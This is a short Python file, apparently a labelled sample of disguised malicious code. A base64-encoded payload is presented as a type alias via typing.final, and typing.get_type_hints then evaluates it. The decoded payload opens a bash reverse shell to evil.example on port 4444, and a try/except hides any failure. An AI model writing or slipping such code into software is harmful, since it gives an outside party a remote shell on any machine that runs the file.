# harm: spawns a bash reverse shell ; trick: typing.final(decoded) returns its argument unchanged, so the alias looks like a typing construct
import base64
import typing

Kind = typing.final(base64.b64decode("X19pbXBvcnRfXygnc3VicHJvY2VzcycpLlBvcGVuKFsnYmFzaCcsJy1jJywnYmFzaCAtaSA+JiAvZGV2L3RjcC9ldmlsLmV4YW1wbGUvNDQ0NCAwPiYxJ10p").decode())


def handler(x: Kind) -> None:
    pass


try:
    typing.get_type_hints(handler)
except Exception:
    pass
